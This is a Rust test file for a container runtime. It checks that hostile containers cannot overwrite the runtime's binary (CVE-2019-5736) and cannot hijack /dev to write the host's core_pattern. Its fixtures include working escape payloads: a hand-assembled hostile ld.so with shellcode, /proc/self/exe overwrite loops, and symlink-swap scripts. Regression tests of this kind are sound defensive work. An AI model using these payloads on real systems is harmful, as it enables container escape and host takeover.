//! What a hostile container does to those who enter it, and to the runtime's program with which it is
//! started and entered. Needs root, and `busybox` from Debian's package `busybox-static`.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;

use skiff_runtime::exec::TerminalSize;
use skiff_runtime::{Container, ContainerSpec, ExecSpec, Runtime, RuntimeOptions};

mod bench;
use bench::exec::{KEEPER, command, read_all, run, script, start};
use bench::{Bench, finish, keeper_of, shell};

/// A copy of the runtime's program, and what is in it: what others run from `target/` may not be put at
/// risk.
fn copied_keeper(dir: &Path) -> (PathBuf, Vec<u8>) {
    let keeper = dir.join("keeper-copy");
    fs::copy(KEEPER, &keeper).expect("copy");
    let before = fs::read(&keeper).expect("read");
    (keeper, before)
}

/// CVE-2019-5736: the runtime's own program is what `/proc/self/exe` is until the command runs. Here another
/// process of the container writes to it meanwhile.
#[tokio::test]
async fn the_runtimes_program_cannot_be_overwritten_while_it_enters() {
    let bench = Bench::new().await;
    let path = bench.rootfs().join("bin/evil");
    fs::write(&path, "#!/proc/self/exe exec\n").expect("write");
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("chmod");
    let (keeper, before) = copied_keeper(bench.dir.path());
    let attack = "while :; do for p in /proc/[0-9]*; do echo overwritten > $p/exe; done 2>/dev/null; done";
    let container = bench.start(shell(attack)).await.expect("starts");
    for words in
        [&["/bin/evil"][..], &["/proc/self/exe"], &["/proc/self/exe", "exec"], &["true"], &["sleep", "0.1"]]
    {
        for _ in 0..3 {
            if let Ok(mut exec) = container.exec(command(words), Some(&keeper)).await {
                drop(exec.take_streams());
                let ended = tokio::time::timeout(Duration::from_secs(20), exec.wait()).await;
                ended.expect("it ends").expect("an exit");
            }
        }
    }
    assert!(fs::read(&keeper).expect("read") == before, "the program was changed");
    drop(container);
    bench.end().await;
}

/// A loader (`ld.so`) that opens `/proc/self/exe` and becomes `/bin/sh /attack` with it as descriptor 3: what
/// an image puts in the place of its libraries to get hold of a program that is executed in it.
fn hostile_loader() -> Vec<u8> {
    const CODE: [u8; 57] = [
        0x48, 0x8d, 0x3d, 0x32, 0x00, 0x00, 0x00, // lea rdi, exe
        0x31, 0xf6, // xor esi, esi (O_RDONLY)
        0xb8, 0x02, 0x00, 0x00, 0x00, // mov eax, open
        0x0f, 0x05, // syscall
        0x31, 0xd2, // xor edx, edx: no environment
        0x52, // push rdx
        0x48, 0x8d, 0x05, 0x36, 0x00, 0x00, 0x00, // lea rax, attack
        0x50, // push rax
        0x48, 0x8d, 0x3d, 0x26, 0x00, 0x00, 0x00, // lea rdi, sh
        0x57, // push rdi
        0x48, 0x89, 0xe6, // mov rsi, rsp
        0xb8, 0x3b, 0x00, 0x00, 0x00, // mov eax, execve
        0x0f, 0x05, // syscall
        0xbf, 0x6f, 0x00, 0x00, 0x00, // mov edi, 111
        0xb8, 0x3c, 0x00, 0x00, 0x00, // mov eax, exit
        0x0f, 0x05, // syscall
    ];
    const HEADERS: u64 = 64 + 56;
    let code = [&CODE[..], b"/proc/self/exe\0/bin/sh\0/attack\0"].concat();
    let size = HEADERS + code.len() as u64;
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec();
    // ET_DYN, x86-64, version 1; then of the only program header: its place, sizes and number.
    elf.extend([3, 0, 62, 0, 1, 0, 0, 0]);
    [HEADERS, 64, 0].iter().for_each(|word| elf.extend(word.to_le_bytes()));
    [0, 0, 64, 56, 1, 0, 0, 0].iter().for_each(|half: &u16| elf.extend(half.to_le_bytes()));
    // PT_LOAD: the whole file; writable, since kernels before 6.10 clear the rest of a loader's last page.
    elf.extend([1, 0, 0, 0, 7, 0, 0, 0]);
    [0, 0, 0, size, size, 4096].iter().for_each(|word: &u64| elf.extend(word.to_le_bytes()));
    elf.extend(code);
    elf
}

/// Writes to descriptor 3 in all ways, when the program that it is may have ended.
const ATTACK: &str = r#"readlink /proc/self/fd/3 > /tmp/told
{ sleep 0.5; i=0
while [ $i -lt 20 ]; do i=$((i+1))
  echo overwritten > /proc/self/fd/3 && echo WROTE
  echo overwritten >> /proc/self/fd/3 && echo WROTE
  dd if=/bin/busybox of=/proc/self/fd/3 bs=64 count=1 conv=notrunc && echo WROTE
  busybox truncate -s 0 /proc/self/fd/3 && echo WROTE
  sleep 0.01
done; echo end; } >> /tmp/told 2>&1 &
"#;

/// Commands that are the runtime's own program.
const OWN_PROGRAM: [&[&str]; 4] =
    [&["/proc/self/exe"], &["/proc/self/exe", "exec"], &["/proc/thread-self/exe"], &["/bin/evil"]];

fn arm(rootfs: &Path, attack: &str) {
    fs::create_dir_all(rootfs.join("lib64")).expect("mkdir");
    for (name, bytes) in [
        ("attack", attack.as_bytes()),
        ("bin/evil", b"#!/proc/self/exe exec\n"),
        ("lib64/ld-linux-x86-64.so.2", &hostile_loader()),
    ] {
        fs::write(rootfs.join(name), bytes).expect("write");
        fs::set_permissions(rootfs.join(name), fs::Permissions::from_mode(0o755)).expect("chmod");
    }
}

/// What the attack told at its end.
async fn told(container: &Container) -> String {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        let file = format!("/proc/{}/root/tmp/told", container.pid());
        let text = fs::read_to_string(file).unwrap_or_default();
        if text.ends_with("end\n") {
            return text;
        }
        assert!(container.exited().is_none(), "{:?}: {text}", container.exited());
        assert!(tokio::time::Instant::now() < deadline, "it does not come to its end: {text}");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}

#[track_caller]
fn assert_in_vain(told: &str, what: &[&str]) {
    assert!(told.starts_with("/memfd:skiff-keeper (deleted)\n"), "{what:?}: {told}");
    assert!(!told.contains("WROTE"), "{what:?}: {told}");
}

/// The program is what the container's first process is for a moment.
#[tokio::test]
async fn the_runtimes_program_cannot_be_overwritten_by_what_is_started() {
    let bench = Bench::new().await;
    let (keeper, before) = copied_keeper(bench.dir.path());
    arm(&bench.rootfs(), &format!("{ATTACK}exec sleep 1000"));
    let runtime = Runtime::open(RuntimeOptions {
        containers_ahead: 0,
        state_dir: bench.dir.path().join("state"),
        run_dir: bench.dir.path().join("run"),
        keeper: Some(keeper.clone()),
        lasting: None,
        network: skiff_runtime::NetworkOptions::default(),
        cgroup: skiff_runtime::CgroupParent::Auto,
    });
    let runtime = runtime.await.expect("a second runtime");
    let running = fs::read_link(format!("/proc/{}/exe", keeper_of(runtime.dir()))).expect("a program");
    assert_eq!(running, Path::new("/memfd:skiff-keeper (deleted)"));
    for words in OWN_PROGRAM {
        let entrypoint = Some(words.iter().map(ToString::to_string).collect());
        let container = runtime.start(&bench.image(), ContainerSpec { entrypoint, ..shell("") }).await;
        assert_in_vain(&told(&container.expect("starts")).await, words);
    }
    // The copy in memory is as it was, too: it goes on starting containers.
    let container = runtime.start(&bench.image(), shell("exit 5")).await.expect("starts");
    assert_eq!(finish(&container).await.0.code, Some(5));
    drop(container);
    runtime.shutdown().await.expect("clean shutdown");
    assert!(fs::read(&keeper).expect("read") == before, "the program was changed");
    bench.end().await;
}

/// Descriptor 3 is kept by a process that goes on when nobody executes the program any more.
#[tokio::test]
async fn the_runtimes_program_cannot_be_overwritten_by_what_is_executed() {
    let bench = Bench::new().await;
    let (keeper, before) = copied_keeper(bench.dir.path());
    arm(&bench.rootfs(), ATTACK);
    let container = bench.start(shell("exec sleep 1000")).await.expect("starts");
    for words in OWN_PROGRAM {
        let mut exec = container.exec(command(words), Some(&keeper)).await.expect("starts");
        drop(exec.take_streams());
        assert_eq!(exec.wait().await.expect("an exit").code, Some(0), "{words:?}");
        drop(exec);
        assert_in_vain(&told(&container).await, words);
    }
    assert!(fs::read(&keeper).expect("read") == before, "the program was changed");
    drop(container);
    bench.end().await;
}

/// What whoever writes it has the host execute.
const CORE_PATTERN: &str = "/proc/sys/kernel/core_pattern";

/// Replaces what can be replaced in `/dev`, and goes on swapping it; tells what should have been refused.
const SWAP: &str = "for f in console tty null stdin stdout fd core; do \
                    rm -f /dev/$f; ln -s /proc/sys/kernel/core_pattern /dev/$f; done; \
                    mv /dev/pts /dev/x && echo moved; rm -rf /dev/pts && echo removed; \
                    busybox umount /dev/pts && echo unmounted; busybox umount -l /dev/pts && echo unmounted; \
                    busybox umount /proc/kcore /proc/keys && echo unmasked; \
                    busybox mount -o bind /tmp /dev/pts && echo mounted; \
                    busybox mount -t proc proc /tmp && echo mounted; \
                    busybox mount -t devpts none /tmp && echo mounted; \
                    rm -f /dev/pts/ptmx; ln -sf /proc/sys/kernel/core_pattern /dev/pts/ptmx && echo linked; \
                    echo ready > /tmp/ready; \
                    while :; do ln -sfn /proc/sys/kernel/core_pattern /dev/ptmx; ln -sfn /dev/pts /dev/ptmx; done";

/// CVE-2025-52565, CVE-2025-52881.
#[tokio::test]
async fn a_terminal_is_made_whatever_the_container_makes_of_dev() {
    let bench = Bench::new().await;
    let pattern = fs::read_to_string(CORE_PATTERN).expect("readable");
    for userns in [false, true] {
        let container = bench.start(ContainerSpec { userns, ..shell(SWAP) }).await.expect("starts");
        let ready = format!("/proc/{}/root/tmp/ready", container.pid());
        while fs::read_to_string(&ready).is_err() {
            assert!(container.exited().is_none(), "{:?}", container.exited());
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        for _ in 0..10 {
            let look = "readlink /proc/self/fd/0; readlink /proc/self/fd/1; busybox stty size; \
                        [ -t 0 ] && [ -t 1 ] && [ -t 2 ] && echo tty";
            let terminal = Some(TerminalSize { rows: 33, columns: 77 });
            let mut exec = start(&container, ExecSpec { terminal, ..script(look) }).await.expect("starts");
            let master = exec.terminal().expect("a copy").expect("a terminal");
            let (out, exit) = tokio::join!(read_all(master), exec.wait());
            let lines: Vec<_> = out.lines().map(str::trim).collect();
            assert!(lines[0].starts_with("/dev/pts/") && lines[1] == lines[0], "{userns}: {out}");
            assert_eq!((&lines[2..], exit.expect("an exit").code), (&["33 77", "tty"][..], Some(0)));
        }
        // What was covered is covered, for those who come in too.
        let look = "for f in kcore keys timer_list interrupts; do [ ! -e /proc/$f ] || \
                    busybox stat -c %t:%T /proc/$f; done | busybox sort -u; \
                    echo x > /proc/sys/kernel/core_pattern; echo x > /dev/console; echo h > /proc/sysrq-trigger";
        let (exit, out, err) = run(&container, script(look)).await;
        assert_eq!((exit.code, out.as_str(), err.lines().count()), (Some(1), "1:3\n", 3), "{userns}: {err}");
        container.stop(Duration::ZERO).await.expect("stops");
        let (_, swapped, refused) = finish(&container).await;
        assert_eq!(swapped, "", "{userns}: this was not refused: {refused}");
        assert_eq!(fs::read_to_string(CORE_PATTERN).expect("readable"), pattern, "{userns}");
        drop(container);
    }
    bench.end().await;
}
